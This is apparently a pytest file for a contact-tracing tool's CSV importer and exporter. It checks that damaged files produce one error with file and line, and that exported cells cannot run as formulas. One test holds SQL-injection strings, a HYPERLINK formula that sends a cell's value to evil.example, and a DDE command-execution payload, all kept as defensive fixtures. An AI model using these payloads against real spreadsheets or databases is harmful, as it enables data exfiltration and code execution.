"""A corpus of bad or odd files: each is one clear error with file and line, or accepted verbatim; never half-written."""

from __future__ import annotations

import csv
import io

import pytest
from builders.city import PERSON_COLS, person, write_csv
from clihelp import fk
from sqlalchemy import func, select
from storesnap import snapshot

from fangkong.kit.clikit import unit_of_work
from fangkong.people.models import Person


def persons_bytes(rows: list[dict], *, sep: str = "\n") -> bytes:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=PERSON_COLS, lineterminator=sep)
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


def names() -> dict[str, str]:
    with unit_of_work() as s:
        return dict(s.execute(select(Person.person_id, Person.name)).all())


def import_bytes(tmp_path, data: bytes, name: str = "persons.csv"):
    folder = tmp_path / "bad"
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)
    return fk("import", folder)


def one_error(r, expected: str) -> None:
    """Exit 1, the expected error on one line of its own, and nothing of the file written."""
    assert r.exit_code == 1, r.output
    lines = [x for x in r.output.splitlines() if expected in x]
    assert lines and lines[0].startswith("error: "), r.output
    assert "Traceback" not in r.output


GOOD = [person(1), person(2), person(3)]


@pytest.mark.parametrize("case,data,expected", [
    ("gbk", "person_id,name\nP1,张三\n".encode("gbk"), "persons.csv:2: file is not UTF-8"),
    ("cut mid-row", persons_bytes(GOOD)[:-40], "persons.csv:4: malformed CSV (expected 9 fields, found"),
    ("cut mid-quote", persons_bytes(GOOD) + b'P00009,"\xe4\xba\xba9,1', "persons.csv:5: malformed CSV ("),
    ("NUL byte", persons_bytes(GOOD).replace("人2".encode(), b"\x00\x00"), "persons.csv:3: NUL byte in a CSV file"),
    ("ends inside a character", persons_bytes(GOOD)[:-1] + "人".encode()[:2],
     "persons.csv:4: file ends inside a UTF-8 character"),
])
def test_a_damaged_file_is_one_error_with_file_and_line_and_writes_nothing(env, tmp_path, case, data, expected):
    before = snapshot(env)
    one_error(import_bytes(tmp_path, data), expected)
    assert snapshot(env) == before


def test_a_register_read_block_by_block_keeps_its_line_numbers(env, tmp_path, monkeypatch):
    """persons.csv is read a block at a time (a city's register): errors in later blocks name their own lines,
    and a file malformed far into it writes nothing, though earlier blocks were clean."""
    from fangkong.lake import files

    monkeypatch.setattr(files, "CSV_BLOCK", 2048)   # ~20 rows a block
    rows = [person(i) for i in range(1, 401)]
    rows[349]["birth_date"] = "1990-02-30"            # line 351
    r = import_bytes(tmp_path, persons_bytes(rows))
    assert r.exit_code == 1 and "persons.csv:351: birth_date" in r.output, r.output[-2000:]
    assert len(names()) == 399 and "P00350" not in names()
    before = snapshot(env)
    data = persons_bytes([person(i) for i in range(401, 801)])
    cut = data.index(b"\nP00790,") + 1                 # line 391 (row 390) loses its last fields
    one_error(import_bytes(tmp_path, data[:cut] + b"P00790,x\n" + data[cut:].split(b"\n", 1)[1]),
              "persons.csv:391: malformed CSV (expected 9 fields, found 2")
    assert snapshot(env) == before


def test_huge_field_is_a_row_error_and_the_other_rows_land(env, tmp_path):
    rows = [person(1), person(2, name="长" * 10_000_000), person(3)]
    r = import_bytes(tmp_path, persons_bytes(rows))
    assert r.exit_code == 1 and "persons.csv:3: name is longer than 100 characters" in r.output, r.output[-2000:]
    assert set(names()) == {"P00001", "P00003"}


def test_text_is_stored_verbatim_and_exports_neutralise_formulas(env, tmp_path):
    odd = {4: '=HYPERLINK("http://evil.example/?"&A1,"点我")', 5: "+86 138", 6: "-1+1", 7: "@SUM(A1:A9)",
           8: "'; DROP TABLE person; --", 9: 'Robert"); DELETE FROM venue;--', 10: "  spaced\ttab  "}
    rows = [person(i, name=n) for i, n in odd.items()]
    r = import_bytes(tmp_path, b"\xef\xbb\xbf" + persons_bytes(rows, sep="\r\n"))   # a BOM and CRLF: both fine
    assert r.exit_code == 0, r.output
    stored = names()
    assert stored == {f"P{i:05d}": n.strip() for i, n in odd.items()}   # verbatim (cells are trimmed)
    with unit_of_work() as s:
        assert s.scalar(select(func.count(Person.id))) == len(odd)       # the table is still there
    # an export another office opens in a spreadsheet: no cell runs as a formula
    path = write_csv(tmp_path / "xc.csv", [{"request_id": "X-1", "issuing_jurisdiction": "=cmd|' /C calc'!A0",
                                            "reason": "密接", "name": n, "id_number": "", "phone": f"139{i:08d}"}
                                           for i, n in odd.items()],
                     ["request_id", "issuing_jurisdiction", "reason", "name", "id_number", "phone"])
    assert fk("assist", "import", path).exit_code == 0
    out = list(csv.DictReader(io.StringIO(fk("assist", "export", "A000001").stdout)))
    assert {row["name"] for row in out} == {("'" + n.strip() if n.strip()[0] in "=+-@" else n.strip())
                                            for n in odd.values()}
    assert {row["issuing_jurisdiction"] for row in out} == {"'=cmd|' /C calc'!A0"}
    assert not any(v[:1] in "=+-@" for row in out for v in row.values() if v)


def test_bulletin_exports_write_formula_text_as_text(monkeypatch):
    """The bulletin holds counts and labels only; were a label ever formula-like, both exports keep it text."""
    import zipfile
    from datetime import date

    from fangkong.reports import exports
    from fangkong.reports.service import Bulletin

    monkeypatch.setattr(exports, "t", lambda key, lang: '=HYPERLINK("http://evil.example","x")')
    b = Bulletin(day=date(2022, 3, 11), new_confirmed=1, new_asymptomatic=0, new_community=0, new_under_control=1,
                 total_cases=1, traced_total=0, traced_by_category={}, new_traced=0, tests_negative=0,
                 tests_positive=0, tests_pending=0, isolation_in_site=0, isolation_at_home=0, monitoring=0,
                 hospital_cases=0, days_since_community_case=None, last_community_case_day=None)
    rows = list(csv.reader(io.StringIO(exports.to_csv(b).lstrip("\ufeff"))))
    assert all(r[2].startswith("'=") for r in rows[1:])
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx(b))) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        shared = z.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "'=HYPERLINK" in shared
